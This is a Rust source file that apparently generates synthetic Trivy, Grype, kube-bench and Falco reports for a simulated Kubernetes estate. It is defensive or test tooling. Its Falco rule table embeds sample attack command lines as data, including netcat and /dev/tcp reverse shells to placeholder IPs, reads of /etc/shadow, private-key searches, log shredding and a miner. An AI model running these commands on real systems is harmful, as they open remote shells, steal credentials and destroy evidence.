                      vulns: &[&ImageVuln],
                      pkg_path: Option<&str>| {
        if !first_result {
            o.push(',');
        }
        first_result = false;
        o.push_str("\n    {\n      ");
        kv(o, "Target", target);
        let _ = write!(
            o,
            ",\n      \"Class\": \"{class}\",\n      \"Type\": \"{kind}\""
        );
        if vulns.is_empty() {
            o.push_str("\n    }");
            return;
        }
        o.push_str(",\n      \"Vulnerabilities\": [");
        for (i, v) in vulns.iter().enumerate() {
            let c = &e.cves[v.cve];
            if i > 0 {
                o.push(',');
            }
            let purl_type = match kind {
                "python-pkg" => "pypi",
                "node-pkg" => "npm",
                "jar" => "maven",
                "gobinary" => "golang",
                other => other,
            };
            let _ = write!(
                o,
                "\n        {{\"VulnerabilityID\": \"{}\", \"PkgID\": \"{}@{}\", \"PkgName\": \"{}\", ",
                c.id, c.pkg, v.installed, c.pkg
            );
            if let Some(p) = pkg_path {
                let _ = write!(o, "\"PkgPath\": \"{p}/{}\", ", c.pkg);
            }
            let _ = write!(
                o,
                "\"PkgIdentifier\": {{\"PURL\": \"pkg:{purl_type}/{}@{}\", \"UID\": \"{}\"}}, \"InstalledVersion\": \"{}\", ",
                c.pkg,
                v.installed,
                rng.hex_string(16),
                v.installed
            );
            match &c.fixed {
                Some(f) => {
                    let _ = write!(o, "\"FixedVersion\": \"{f}\", \"Status\": \"fixed\", ");
                }
                None => o.push_str(if c.severity == "LOW" {
                    "\"Status\": \"will_not_fix\", "
                } else {
                    "\"Status\": \"affected\", "
                }),
            }
            let _ = write!(
                o,
                "\"Layer\": {{\"DiffID\": \"{}\"}}, \"SeveritySource\": \"{}\", \"PrimaryURL\": \"{}\", \"DataSource\": {{\"ID\": \"{}\", \"Name\": \"{} Security Tracker\", \"URL\": \"https://security-tracker.{}.org/tracker/\"}}, ",
                img.layers[v.layer],
                if c.eco >= 100 { "ghsa" } else { os.family },
                c.urls[0],
                os.family,
                title_case(os.family),
                os.family
            );
            o.push_str(&c.trivy_tail);
            o.push('}');
        }
        o.push_str("\n      ]\n    }");
    };
    let os_target = format!("{name} ({} {})", os.family, os.name);
    let os_vulns: Vec<&ImageVuln> = live
        .iter()
        .copied()
        .filter(|v| e.cves[v.cve].eco < 100)
        .collect();
    result(&mut o, &os_target, "os-pkgs", os.kind, &os_vulns, None);
    if let Some(l) = img.lang {
        let (kind, _, path, _) = LANGS[l];
        let lang_vulns: Vec<&ImageVuln> = live
            .iter()
            .copied()
            .filter(|v| e.cves[v.cve].eco >= 100)
            .collect();
        result(&mut o, path, "lang-pkgs", kind, &lang_vulns, Some(path));
    }
    // Dockerfile misconfigurations (image config scan), and a leaked secret sometimes.
    if !img.misconf.is_empty() {
        let _ = write!(
            o,
            ",\n    {{\n      \"Target\": \"Dockerfile\",\n      \"Class\": \"config\",\n      \"Type\": \"dockerfile\",\n      \"MisconfSummary\": {{\"Successes\": {}, \"Failures\": {}}},\n      \"Misconfigurations\": [",
            DOCKERFILE_CHECKS.len() * 4 - img.misconf.len(),
            img.misconf.len()
        );
        for (i, m) in img.misconf.iter().enumerate() {
            let (id, title, sev, resolution) = DOCKERFILE_CHECKS[*m];
            if i > 0 {
                o.push(',');
            }
            let lower = id.to_ascii_lowercase().replace('-', "");
            o.push_str("\n        {\"Type\": \"Dockerfile Security Check\", ");
            let _ = write!(o, "\"ID\": \"{id}\", ");
            kv(&mut o, "Title", title);
            o.push_str(", \"Description\": \"Running containers with insecure defaults weakens the isolation between the container and the host.\", ");
            kv(&mut o, "Message", &format!("Specify at least 1 USER command in Dockerfile with non-root user as argument ({title})"));
            let _ = write!(
                o,
                ", \"Namespace\": \"builtin.dockerfile.{lower}\", \"Query\": \"data.builtin.dockerfile.{lower}.deny\", "
            );
            kv(&mut o, "Resolution", resolution);
            let _ = write!(
                o,
                ", \"Severity\": \"{sev}\", \"PrimaryURL\": \"https://avd.aquasec.com/misconfig/{lower}\", \"References\": [\"https://docs.docker.com/develop/develop-images/dockerfile_best-practices/\", \"https://avd.aquasec.com/misconfig/{lower}\"], \"Status\": \"FAIL\", \"Layer\": {{}}, \"CauseMetadata\": {{\"Provider\": \"Dockerfile\", \"Service\": \"general\", \"Code\": {{\"Lines\": null}}}}}}"
            );
        }
        o.push_str("\n      ]\n    }");
    }
    if img.secret {
        let _ = write!(
            o,
            ",\n    {{\n      \"Target\": \"/app/config/settings.env\",\n      \"Class\": \"secret\",\n      \"Secrets\": [{{\"RuleID\": \"aws-access-key-id\", \"Category\": \"AWS\", \"Severity\": \"CRITICAL\", \"Title\": \"AWS Access Key ID\", \"StartLine\": 3, \"EndLine\": 3, \"Code\": {{\"Lines\": [{{\"Number\": 3, \"Content\": \"AWS_ACCESS_KEY_ID=********************\", \"IsCause\": true, \"Highlighted\": \"AWS_ACCESS_KEY_ID=********************\", \"FirstCause\": true, \"LastCause\": true}}]}}, \"Match\": \"AWS_ACCESS_KEY_ID=********************\", \"Layer\": {{\"DiffID\": \"{}\", \"CreatedBy\": \"COPY config /app/config # buildkit\"}}}}]\n    }}",
            img.layers[img.layers.len() - 1]
        );
    }
    o.push_str("\n  ]\n}\n");
    o
}

// ---------------------------------------------------------------------------------------
// Grype
// ---------------------------------------------------------------------------------------

fn grype_report(e: &Estate, img_idx: usize, rng: &mut Rng) -> String {
    let img = &e.images[img_idx];
    let os = &OSES[img.os];
    let week = e.weeks - 1;
    let tag = img.tag(week);
    let full = img.full_repo();
    let digest = img.digest(week, e.seed);
    let mut o = String::with_capacity(64 * 1024);
    o.push_str("{\n \"matches\": [");
    let live = img
        .vulns
        .iter()
        .filter(|v| v.from_week <= week && week < v.to_week);
    for (i, v) in live.enumerate() {
        let c = &e.cves[v.cve];
        if i > 0 {
            o.push(',');
        }
        let (ns, art_type, lang, path) = if c.eco >= 100 {
            let (_, gtype, path, _) = LANGS[c.eco - 100];
            (
                format!("github:language:{gtype}"),
                gtype,
                gtype,
                format!("/{path}/{}", c.pkg),
            )
        } else {
            (
                format!(
                    "{}:distro:{}:{}",
                    os.family,
                    os.family,
                    os.name.split('.').next().unwrap_or("")
                ),
                os.grype_type,
                "",
                "/var/lib/dpkg/status".to_string(),
            )
        };
        let sev = title_case(c.severity);
        o.push_str("\n  {\"vulnerability\": {");
        let _ = write!(o, "\"id\": \"{}\", \"dataSource\": \"{}\", \"namespace\": \"{ns}\", \"severity\": \"{sev}\", \"urls\": ", c.id, c.urls[1]);
        q_list(&mut o, &c.urls[1..]);
        o.push_str(", ");
        kv(&mut o, "description", &c.description);
        if c.score > 0.0 {
            let _ = write!(
                o,
                ", \"cvss\": [{{\"source\": \"nvd@nist.gov\", \"type\": \"Primary\", \"version\": \"3.1\", \"vector\": \"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H\", \"metrics\": {{\"baseScore\": {}, \"exploitabilityScore\": 3.9, \"impactScore\": 5.9}}, \"vendorMetadata\": {{}}}}]",
                c.score
            );
        } else {
            o.push_str(", \"cvss\": []");
        }
        match &c.fixed {
            Some(f) => {
                let _ = write!(
                    o,
                    ", \"fix\": {{\"versions\": [\"{f}\"], \"state\": \"fixed\"}}"
                );
            }
            None => o.push_str(", \"fix\": {\"versions\": [], \"state\": \"not-fixed\"}"),
        }
        let _ = write!(
            o,
            ", \"advisories\": [], \"epss\": [{{\"cve\": \"{}\", \"epss\": {:.5}, \"percentile\": {:.5}, \"date\": \"2026-11-18\"}}], \"risk\": {:.4}}}",
            c.id,
            rng.f64() * 0.2,
            rng.f64(),
            rng.f64() * 10.0
        );
        let _ = write!(
            o,
            ", \"relatedVulnerabilities\": [{{\"id\": \"{}\", \"dataSource\": \"https://nvd.nist.gov/vuln/detail/{}\", \"namespace\": \"nvd:cpe\", \"severity\": \"{sev}\", \"urls\": [], \"description\": \"See upstream advisory.\", \"cvss\": []}}]",
            c.id, c.id
        );
        let _ = write!(
            o,
            ", \"matchDetails\": [{{\"type\": \"exact-direct-match\", \"matcher\": \"{}-matcher\", \"searchedBy\": {{\"distro\": {{\"type\": \"{}\", \"version\": \"{}\"}}, \"namespace\": \"{ns}\", \"package\": {{\"name\": \"{}\", \"version\": \"{}\"}}}}, \"found\": {{\"vulnerabilityID\": \"{}\", \"versionConstraint\": \"< {} ({})\"}}}}]",
            art_type,
            os.family,
            os.name,
            c.pkg,
            v.installed,
            c.id,
            c.fixed.as_deref().unwrap_or("99.0.0"),
            art_type
        );
        let _ = write!(
            o,
            ", \"artifact\": {{\"id\": \"{}\", \"name\": \"{}\", \"version\": \"{}\", \"type\": \"{art_type}\", \"locations\": [{{\"path\": \"{path}\", \"layerID\": \"{}\"}}], \"language\": \"{lang}\", \"licenses\": [\"MIT\"], \"cpes\": [\"cpe:2.3:a:{}:{}:{}:*:*:*:*:*:*:*\"], \"purl\": \"pkg:{}/{}@{}\", \"upstreams\": []}}}}",
            rng.hex_string(16),
            c.pkg,
            v.installed,
            img.layers[v.layer],
            c.pkg,
            c.pkg,
            v.installed,
            art_type,
            c.pkg,
            v.installed
        );
    }
    let _ = write!(
        o,
        "\n ],\n \"source\": {{\"type\": \"image\", \"target\": {{\"userInput\": \"{full}:{tag}\", \"imageID\": \"{}\", \"manifestDigest\": \"{digest}\", \"mediaType\": \"application/vnd.oci.image.manifest.v1+json\", \"tags\": [\"{full}:{tag}\"], \"imageSize\": {}, \"layers\": [",
        img.image_id(week, e.seed),
        80_000_000 + rng.below(500_000_000)
    );
    for (i, l) in img.layers.iter().enumerate() {
        if i > 0 {
            o.push_str(", ");
        }
        let _ = write!(
            o,
            "{{\"mediaType\": \"application/vnd.oci.image.layer.v1.tar+gzip\", \"digest\": \"{l}\", \"size\": {}}}",
            rng.below(100_000_000)
        );
    }
    let _ = write!(
        o,
        "], \"repoDigests\": [\"{full}@{digest}\"], \"architecture\": \"amd64\", \"os\": \"linux\"}}}},\n \"distro\": {{\"name\": \"{}\", \"version\": \"{}\", \"idLike\": []}},\n \"descriptor\": {{\"name\": \"grype\", \"version\": \"0.86.1\", \"db\": {{\"built\": \"2026-11-18T01:31:22Z\", \"schemaVersion\": 5}}, \"timestamp\": \"2026-11-19T04:12:{:02}.{:06}+00:00\"}}\n}}\n",
        os.family,
        os.name,
        img_idx % 60,
        rng.below(1_000_000)
    );
    o
}

// ---------------------------------------------------------------------------------------
// kube-bench
// ---------------------------------------------------------------------------------------

/// One kube-bench test: number, description, audit command, remediation, manual.
type KbTest = (String, String, String, String, bool);

static KB_NODE_TESTS: &[(&str, &str, &str, &str)] = &[
    ("4.1.1", "Ensure that the kubelet service file permissions are set to 600 or more restrictive (Automated)", "/bin/sh -c 'if test -e /etc/systemd/system/kubelet.service.d/10-kubeadm.conf; then stat -c permissions=%a /etc/systemd/system/kubelet.service.d/10-kubeadm.conf; fi'", "Run the below command (based on the file location on your system) on each worker node.\nFor example, chmod 600 /etc/systemd/system/kubelet.service.d/10-kubeadm.conf\n"),
    ("4.1.2", "Ensure that the kubelet service file ownership is set to root:root (Automated)", "/bin/sh -c \"if test -e /etc/systemd/system/kubelet.service.d/10-kubeadm.conf; then stat -c %U:%G /etc/systemd/system/kubelet.service.d/10-kubeadm.conf; fi\"", "Run the below command (based on the file location on your system) on each worker node.\nFor example,\nchown root:root /etc/systemd/system/kubelet.service.d/10-kubeadm.conf\n"),
    ("4.1.3", "If proxy kubeconfig file exists ensure permissions are set to 600 or more restrictive (Manual)", "/bin/sh -c 'if test -e /var/lib/kube-proxy/kubeconfig; then stat -c permissions=%a /var/lib/kube-proxy/kubeconfig; fi'", "Run the below command (based on the file location on your system) on each worker node.\nFor example,\nchmod 600 /var/lib/kube-proxy/kubeconfig\n"),
    ("4.1.5", "Ensure that the --kubeconfig kubelet.conf file permissions are set to 600 or more restrictive (Automated)", "/bin/sh -c 'if test -e /etc/kubernetes/kubelet.conf; then stat -c permissions=%a /etc/kubernetes/kubelet.conf; fi'", "Run the below command (based on the file location on your system) on each worker node.\nFor example,\nchmod 600 /etc/kubernetes/kubelet.conf\n"),
    ("4.1.7", "Ensure that the certificate authorities file permissions are set to 600 or more restrictive (Manual)", "stat -c permissions=%a /etc/kubernetes/certs/ca.crt", "Run the following command to modify the file permissions of the\n--client-ca-file chmod 600 <filename>\n"),
    ("4.1.9", "If the kubelet config.yaml configuration file is being used validate permissions set to 600 or more restrictive (Automated)", "/bin/sh -c 'if test -e /var/lib/kubelet/config.yaml; then stat -c permissions=%a /var/lib/kubelet/config.yaml; fi'", "Run the following command (using the config file location identified in the Audit step)\nchmod 600 /var/lib/kubelet/config.yaml\n"),
    ("4.2.1", "Ensure that the --anonymous-auth argument is set to false (Automated)", "/bin/ps -fC kubelet", "If using a Kubelet config file, edit the file to set `authentication: anonymous: enabled` to\n`false`.\n"),
    ("4.2.2", "Ensure that the --authorization-mode argument is not set to AlwaysAllow (Automated)", "/bin/ps -fC kubelet", "If using a Kubelet config file, edit the file to set `authorization.mode` to Webhook.\n"),
    ("4.2.3", "Ensure that the --client-ca-file argument is set as appropriate (Automated)", "/bin/ps -fC kubelet", "If using a Kubelet config file, edit the file to set `authentication.x509.clientCAFile` to\nthe location of the client CA file.\n"),
    ("4.2.4", "Verify that the --read-only-port argument is set to 0 (Manual)", "/bin/ps -fC kubelet", "If using a Kubelet config file, edit the file to set `readOnlyPort` to 0.\n"),
    ("4.2.5", "Ensure that the --streaming-connection-idle-timeout argument is not set to 0 (Manual)", "/bin/ps -fC kubelet", "If using a Kubelet config file, edit the file to set `streamingConnectionIdleTimeout` to a\nvalue other than 0.\n"),
    ("4.2.6", "Ensure that the --make-iptables-util-chains argument is set to true (Automated)", "/bin/ps -fC kubelet", "If using a Kubelet config file, edit the file to set `makeIPTablesUtilChains` to `true`.\n"),
    ("4.2.7", "Ensure that the --hostname-override argument is not set (Manual)", "/bin/ps -fC kubelet", "Edit the kubelet service file on each worker node\nand remove the --hostname-override argument from the KUBELET_SYSTEM_PODS_ARGS variable.\n"),
    ("4.2.8", "Ensure that the eventRecordQPS argument is set to a level which ensures appropriate event capture (Manual)", "/bin/ps -fC kubelet", "If using a Kubelet config file, edit the file to set `eventRecordQPS` to an appropriate level.\n"),
    ("4.2.9", "Ensure that the --tls-cert-file and --tls-private-key-file arguments are set as appropriate (Manual)", "/bin/ps -fC kubelet", "If using a Kubelet config file, edit the file to set `tlsCertFile` and `tlsPrivateKeyFile`.\n"),
    ("4.2.10", "Ensure that the --rotate-certificates argument is not set to false (Automated)", "/bin/ps -fC kubelet", "If using a Kubelet config file, edit the file to add the line `rotateCertificates` to `true` or\nremove it altogether to use the default value.\n"),
    ("4.2.11", "Verify that the RotateKubeletServerCertificate argument is set to true (Manual)", "/bin/ps -fC kubelet", "Edit the kubelet service file on each worker node and set the below parameter in KUBELET_CERTIFICATE_ARGS variable.\n--feature-gates=RotateKubeletServerCertificate=true\n"),
    ("4.2.12", "Ensure that the Kubelet only makes use of Strong Cryptographic Ciphers (Manual)", "/bin/ps -fC kubelet", "If using a Kubelet config file, edit the file to set `tlsCipherSuites` to\nTLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256,TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256\n"),
    ("4.2.13", "Ensure that a limit is set on pod PIDs (Manual)", "/bin/ps -fC kubelet", "Decide on an appropriate level for this parameter and set it,\neither via the --pod-max-pids command line parameter or the PodPidsLimit configuration file setting.\n"),
];

static KB_POLICY_TESTS: &[(&str, &str)] = &[
    ("5.1.1", "Ensure that the cluster-admin role is only used where required (Automated)"),
    ("5.1.2", "Minimize access to secrets (Automated)"),
    ("5.1.3", "Minimize wildcard use in Roles and ClusterRoles (Automated)"),
    ("5.1.5", "Ensure that default service accounts are not actively used (Automated)"),
    ("5.1.6", "Ensure that Service Account Tokens are only mounted where necessary (Automated)"),
    ("5.2.2", "Minimize the admission of privileged containers (Automated)"),
    ("5.2.3", "Minimize the admission of containers wishing to share the host process ID namespace (Automated)"),
    ("5.2.4", "Minimize the admission of containers wishing to share the host IPC namespace (Automated)"),
    ("5.2.5", "Minimize the admission of containers wishing to share the host network namespace (Automated)"),
    ("5.2.6", "Minimize the admission of containers with allowPrivilegeEscalation (Automated)"),
    ("5.2.7", "Minimize the admission of root containers (Automated)"),
    ("5.3.2", "Ensure that all Namespaces have Network Policies defined (Manual)"),
    ("5.4.1", "Prefer using secrets as files over secrets as environment variables (Manual)"),
    ("5.7.2", "Ensure that the seccomp profile is set to docker/default in your pod definitions (Manual)"),
    ("5.7.4", "The default namespace should not be used (Manual)"),
];

fn kube_bench_report(e: &Estate, node: usize, week: u64, rng: &mut Rng) -> String {
    let n = &e.nodes[node];
    let mut o = String::with_capacity(48 * 1024);
    let mut totals = [0u32; 4]; // pass, fail, warn, info
    o.push_str("{\"Controls\":[");
    let mut control = |o: &mut String,
                       id: &str,
                       text: &str,
                       node_type: &str,
                       sections: &[(&str, &str, Vec<KbTest>)]| {
        let mut ctl = [0u32; 4];
        let mut body = String::new();
        for (si, (sec, desc, tests)) in sections.iter().enumerate() {
            let mut st = [0u32; 4];
            let mut res = String::new();
            for (ti, (num, tdesc, audit, remediation, manual)) in tests.iter().enumerate() {
                let roll = rng.f64();
                let status = if *manual {
                    "WARN"
                } else if roll < 0.12 + (node % 3) as f64 * 0.03 {
                    "FAIL"
                } else {
                    "PASS"
                };
                let k = match status {
                    "PASS" => 0,
                    "FAIL" => 1,
                    _ => 2,
                };
                st[k] += 1;
                if ti > 0 {
                    res.push(',');
                }
                let _ = write!(res, "{{\"test_number\":\"{num}\",");
                kv(&mut res, "test_desc", tdesc);
                res.push(',');
                kv(&mut res, "audit", audit);
                res.push_str(",\"AuditEnv\":\"\",\"AuditConfig\":\"/var/lib/kubelet/config.yaml\",\"type\":\"");
                res.push_str(if *manual { "manual" } else { "" });
                res.push_str("\",");
                kv(&mut res, "remediation", remediation);
                res.push_str(",\"test_info\":[");
                q(&mut res, remediation);
                let _ = write!(
                    res,
                    "],\"status\":\"{status}\",\"actual_value\":\"{}\",\"scored\":{},\"IsMultiple\":false,\"expected_result\":\"{}\"",
                    if status == "FAIL" { "permissions=644" } else { "permissions=600" },
                    !manual,
                    if status == "PASS" { "'permissions' is present" } else { "'--anonymous-auth' is equal to 'false'" }
                );
                if status != "PASS" {
                    res.push_str(",\"reason\":\"\"");
                }
                res.push('}');
            }
            if si > 0 {
                body.push(',');
            }
            let _ = write!(
                body,
                "{{\"section\":\"{sec}\",\"type\":\"\",\"pass\":{},\"fail\":{},\"warn\":{},\"info\":{},\"desc\":\"{desc}\",\"results\":[{res}]}}",
                st[0], st[1], st[2], st[3]
            );
            for i in 0..4 {
                ctl[i] += st[i];
            }
        }
        let _ = write!(
            o,
            "{{\"id\":\"{id}\",\"version\":\"cis-1.10\",\"detected_version\":\"1.30\",\"text\":\"{text}\",\"node_type\":\"{node_type}\",\"tests\":[{body}],\"total_pass\":{},\"total_fail\":{},\"total_warn\":{},\"total_info\":{}}}",
            ctl[0], ctl[1], ctl[2], ctl[3]
        );
        for i in 0..4 {
            totals[i] += ctl[i];
        }
    };
    let node_tests = |range: std::ops::Range<usize>| -> Vec<KbTest> {
        KB_NODE_TESTS[range]
            .iter()
            .map(|(num, desc, audit, rem)| {
                (
                    num.to_string(),
                    desc.to_string(),
                    audit.to_string(),
                    rem.to_string(),
                    desc.ends_with("(Manual)"),
                )
            })
            .collect()
    };
    control(
        &mut o,
        "4",
        "Worker Node Security Configuration",
        "node",
        &[
            ("4.1", "Worker Node Configuration Files", node_tests(0..6)),
            ("4.2", "Kubelet", node_tests(6..KB_NODE_TESTS.len())),
        ],
    );
    if node == 0 {
        o.push(',');
        let tests: Vec<_> = KB_POLICY_TESTS
            .iter()
            .map(|(num, desc)| {
                (
                    num.to_string(),
                    desc.to_string(),
                    String::new(),
                    "Review the workloads and RBAC bindings in the cluster and correct them."
                        .to_string(),
                    desc.ends_with("(Manual)"),
                )
            })
            .collect();
        control(
            &mut o,
            "5",
            "Kubernetes Policies",
            "policies",
            &[("5.1", "RBAC and Service Accounts", tests)],
        );
    }
    let _ = writeln!(
        o,
        "],\"Totals\":{{\"total_pass\":{},\"total_fail\":{},\"total_warn\":{},\"total_info\":{}}}}}",
        totals[0], totals[1], totals[2], totals[3]
    );
    let _ = (week, &n.name);
    o
}

// ---------------------------------------------------------------------------------------
// Falco
// ---------------------------------------------------------------------------------------

struct FalcoRule {
    name: &'static str,
    priority: &'static str,
    tags: &'static [&'static str],
    weight: f64,
    text: &'static str,
    evt_type: &'static str,
    cmdlines: &'static [&'static str],
    fd: Option<&'static str>,
}

static FALCO_RULES: &[FalcoRule] = &[
    FalcoRule {
        name: "Contact K8S API Server From Container",
        priority: "Notice",
        tags: &[
            "maturity_stable",
            "container",
            "network",
            "k8s",
            "mitre_discovery",
            "T1565",
        ],
        weight: 30.0,
        text: "Unexpected connection to K8s API Server from container",
        evt_type: "connect",
        cmdlines: &[
            "kubectl get pods -A",
            "python3 /app/operator.py --watch",
            "curl -sk https://10.0.0.1:443/api/v1/namespaces",
        ],
        fd: Some("10.244.1.17:51234->10.0.0.1:443"),
    },
    FalcoRule {
        name: "Read sensitive file untrusted",
        priority: "Warning",
        tags: &[
            "maturity_stable",
            "host",
            "container",
            "filesystem",
            "mitre_credential_access",
            "T1555",
        ],
        weight: 18.0,
        text: "Sensitive file opened for reading by non-trusted program",
        evt_type: "openat",
        cmdlines: &[
            "cat /etc/shadow",
            "python3 -c open('/etc/shadow').read()",
            "grep root /etc/shadow",
        ],
        fd: Some("/etc/shadow"),
    },
    FalcoRule {
        name: "Terminal shell in container",
        priority: "Notice",
        tags: &[
            "maturity_stable",
            "container",
            "shell",
            "mitre_execution",
            "T1059",
        ],
        weight: 16.0,
        text: "A shell was spawned in a container with an attached terminal",
        evt_type: "execve",
        cmdlines: &["bash", "sh -i", "/bin/sh -c \"ls -la /app\"", "bash -il"],
        fd: None,
    },
    FalcoRule {
        name: "Drop and execute new binary in container",
        priority: "Critical",
        tags: &[
            "maturity_stable",
            "container",
            "process",
            "mitre_persistence",
            "TA0003",
            "PCI_DSS_11.5.1",
        ],
        weight: 3.0,
        text: "Executing binary not part of base image",
        evt_type: "execve",
        cmdlines: &[
            "/tmp/xmrig --donate-level 1",
            "./payload",
            "/dev/shm/.x/agent -c 45.9.148.3",
        ],
        fd: None,
    },
    FalcoRule {
        name: "Write below etc",
        priority: "Error",
        tags: &[
            "maturity_stable",
            "host",
            "container",
            "filesystem",
            "mitre_persistence",
            "T1098",
        ],
        weight: 5.0,
        text: "File below /etc opened for writing",
        evt_type: "openat",
        cmdlines: &[
            "sed -i s/a/b/ /etc/hosts",
            "tee /etc/resolv.conf",
            "useradd -m svc",
        ],
        fd: Some("/etc/passwd"),
    },
    FalcoRule {
        name: "Launch Privileged Container",
        priority: "Informational",
        tags: &[
            "maturity_incubating",
            "container",
            "cis",
            "mitre_execution",
            "T1610",
        ],
        weight: 4.0,
        text: "Privileged container started",
        evt_type: "container",
        cmdlines: &["/usr/bin/containerd-shim-runc-v2 -namespace k8s.io"],
        fd: None,
    },
    FalcoRule {
        name: "Redirect STDOUT/STDIN to Network Connection in Container",
        priority: "Notice",
        tags: &[
            "maturity_stable",
            "container",
            "network",
            "process",
            "mitre_execution",
            "T1059",
        ],
        weight: 2.0,
        text: "Redirect stdout/stdin to network connection",
        evt_type: "dup2",
        cmdlines: &[
            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
            "sh -c 'exec 5<>/dev/tcp/198.51.100.7/80'",
        ],
        fd: Some("10.244.3.4:40912->203.0.113.9:4444"),
    },
    FalcoRule {
        name: "Packet socket created in container",
        priority: "Notice",
        tags: &[
            "maturity_stable",
            "container",
            "network",
            "mitre_credential_access",
            "T1557.002",
        ],
        weight: 3.0,
        text: "Packet socket was created in a container",
        evt_type: "socket",
        cmdlines: &["tcpdump -i eth0", "arping 10.244.0.1"],
        fd: None,
    },
    FalcoRule {
        name: "Clear Log Activities",
        priority: "Warning",
        tags: &[
            "maturity_stable",
            "host",
            "container",
            "filesystem",
            "mitre_defense_evasion",
            "T1070",
        ],
        weight: 2.0,
        text: "Log files were tampered",
        evt_type: "openat",
        cmdlines: &[
            "truncate -s0 /var/log/app.log",
            "shred -u /var/log/auth.log",
        ],
        fd: Some("/var/log/app.log"),
    },
    FalcoRule {
        name: "Launch Package Management Process in Container",
        priority: "Error",
        tags: &[
            "maturity_incubating",
            "container",
            "process",
            "software_mgmt",
            "mitre_persistence",
            "T1505",
        ],
        weight: 6.0,
        text: "Package management process launched in container",
        evt_type: "execve",
        cmdlines: &[
            "apt-get install -y curl",
            "apk add --no-cache netcat-openbsd",
            "pip install requests==2.31.0",
        ],
        fd: None,
    },
    FalcoRule {
        name: "Search Private Keys or Passwords",
        priority: "Warning",
        tags: &[
            "maturity_stable",
            "host",
            "container",
            "process",
            "filesystem",
            "mitre_credential_access",
            "T1552.001",
        ],
        weight: 1.5,
        text: "Grep private keys or passwords activities found",
        evt_type: "execve",
        cmdlines: &[
            "grep -r BEGIN RSA PRIVATE /",
            "find / -name id_rsa",
            "grep -ri password= /app",
        ],
        fd: None,
    },
    FalcoRule {
        name: "Netcat Remote Code Execution in Container",
        priority: "Warning",
        tags: &[
            "maturity_stable",
            "container",
            "network",
            "process",
            "mitre_execution",
            "T1059",
        ],
        weight: 1.0,
        text: "Netcat runs inside container that allows remote code execution",
        evt_type: "execve",
        cmdlines: &[
            "nc -e /bin/sh 203.0.113.9 4444",
            "ncat --exec /bin/bash 198.51.100.7 80",
        ],
        fd: None,
    },
    FalcoRule {
        name: "Modify binary dirs",
        priority: "Error",
        tags: &[
            "maturity_stable",
            "host",
            "container",
            "filesystem",
            "mitre_defense_evasion",
            "T1222.002",
        ],
        weight: 1.0,
        text: "File below known binary directory renamed/removed",
        evt_type: "renameat2",
        cmdlines: &["mv /usr/bin/curl /usr/bin/.curl", "rm /bin/su"],
        fd: Some("/usr/bin/curl"),
    },
    FalcoRule {
        name: "Outbound Connection to C2 Servers",
        priority: "Critical",
        tags: &[
            "maturity_sandbox",
            "host",
            "container",
            "network",
            "mitre_command_and_control",
            "TA0011",
        ],
        weight: 0.3,
        text: "Outbound connection to C2 server",
        evt_type: "connect",
        cmdlines: &["/tmp/kworker --url stratum+tcp://pool.example:3333"],
        fd: Some("10.244.2.8:33012->198.51.100.66:3333"),
    },
];

fn falco_file(e: &Estate, day_idx: usize, count: u64, rng: &mut Rng) -> String {
    let day = &e.days[day_idx];
    let rule_weights = cumulative(FALCO_RULES.iter().map(|r| r.weight));
    // (time, Some(workload/pod/rule) or None for a heartbeat of node n)
    let mut events: Vec<(u64, u32, u32)> = times_of_day(rng, count as usize)
        .into_iter()
        .map(|t| (t, 0u32, 0u32))
        .collect();
    for (t, w, r) in events.iter_mut() {
        let _ = t;
        *w = rng.weighted(&e.workload_weights) as u32 + 1;
        *r = rng.weighted(&rule_weights) as u32;
    }
    for (n, _) in e.nodes.iter().enumerate() {
        for h in 0..24u64 {
            events.push((h * 3_600_000_000_000 + n as u64 * 1_000_003, 0, n as u32));
        }
    }
    events.sort_unstable();
    let mut o = String::with_capacity(events.len() * 900);
    let mut t_out = String::with_capacity(40);
    for (t, w, r) in events {
        let evt_ns = (day.epoch_s as u64) * 1_000_000_000 + t;
        if w == 0 {
            let n = &e.nodes[r as usize];
            o.push_str("{\"hostname\":");
            q(&mut o, &n.name);
            o.push_str(",\"output\":\"");
            ts(&mut o, day, t, 9, "+0000");
            let _ = writeln!(
                o,
                ": Falco metrics snapshot\",\"priority\":\"Informational\",\"rule\":\"Falco internal: metrics snapshot\",\"source\":\"internal\",\"time\":\"{}\",\"output_fields\":{{\"evt.source\":\"syscall\",\"evt.time\":{evt_ns},\"falco.version\":\"0.39.2\",\"falco.start_ts\":{},\"falco.duration_sec\":{},\"falco.kernel_release\":\"5.15.0-1073-azure\",\"falco.host_num_cpus\":8,\"falco.outputs_queue_num_drops\":0,\"scap.n_evts\":{},\"scap.n_drops\":{},\"scap.n_drops_perc\":0.0,\"falco.cpu_usage_perc\":{:.1},\"falco.memory_rss_mb\":{:.1}}}}}",
                ts_string(day, t, 9),
                (day.epoch_s as u64 - 86_400 * 3) * 1_000_000_000,
                86_400 * 3 + t / 1_000_000_000,
                rng.below(900_000_000),
                rng.below(100),
                1.0 + rng.f64() * 3.0,
                60.0 + rng.f64() * 40.0
            );
            continue;
        }
        let wl = &e.workloads[(w - 1) as usize];
        let rule = &FALCO_RULES[r as usize];
        let (pod, node, cid) = rng.pick(&wl.pods);
        let img = &e.images[wl.image];
        let week = (day_idx / 7) as u64;
        let tag = img.tag(week);
        let repo = img.full_repo();
        let cmd = *rng.pick(rule.cmdlines);
        let proc_name = cmd
            .split([' ', '/'])
            .find(|s| !s.is_empty() && !s.starts_with('.'))
            .unwrap_or("sh");
        let user = if wl.run_as_root {
            ("root", 0)
        } else {
            ("app", 10001)
        };
        let pid = 1000 + rng.below(60000);
        t_out.clear();
        ts(&mut t_out, day, t, 9, "");
        let mut output = String::with_capacity(400);
        let _ = write!(
            output,
            "{t_out}+0000: {} {} (user={} user_loginuid=-1 process={proc_name} proc_exepath=/usr/bin/{proc_name} parent=containerd-shim command={cmd} pid={pid} terminal=34816 container_id={} container_image={repo} container_image_tag={tag} container_name={} k8s_ns={} k8s_pod_name={pod}",
            rule.priority, rule.text, user.0, &cid[..12], wl.container, wl.ns
        );
        if let Some(fd) = rule.fd {
            let _ = write!(output, " file={fd}");
        }
        output.push(')');
        o.push_str("{\"hostname\":");
        q(&mut o, &e.nodes[*node].name);
        o.push_str(",\"output\":");
        q(&mut o, &output);
        let _ = write!(o, ",\"priority\":\"{}\",\"rule\":", rule.priority);
        q(&mut o, rule.name);
        o.push_str(",\"source\":\"syscall\",\"tags\":");
